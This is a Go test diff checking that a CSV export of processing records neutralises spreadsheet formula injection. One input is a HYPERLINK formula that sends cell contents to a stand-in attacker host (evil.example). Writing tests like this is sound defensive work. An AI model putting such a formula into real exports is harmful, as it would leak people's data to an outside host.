@@ -335,3 +335,25 @@ func TestNewThirdCountryRecipientEverywhere(t *testing.T) {
 		t.Error("the workbook does not name the new recipient with its country")
 	}
 }
+
+// TestROPACSVFormulaInert: a text a spreadsheet would run as a formula is
+// written as text, and every other text as it is.
+func TestROPACSVFormulaInert(t *testing.T) {
+	rec := &Record{Lang: "en", Header: []string{"a", "b"}, Rows: [][]string{
+		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+31 20 123"},
+		{"-2+3", "@SUM(A1)"},
+		{"\tcmd", "\r=1"},
+		{"plain = text", ""},
+		{"3 - 2", "e-mail: a@b.example"},
+	}}
+	want := `a,b
+"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",'+31 20 123
+'-2+3,'@SUM(A1)
+'	cmd,"'` + "\r" + `=1"
+plain = text,
+3 - 2,e-mail: a@b.example
+`
+	if got := string(rec.CSV()); got != want {
+		t.Errorf("CSV:\n%q\nwant\n%q", got, want)
+	}
+}
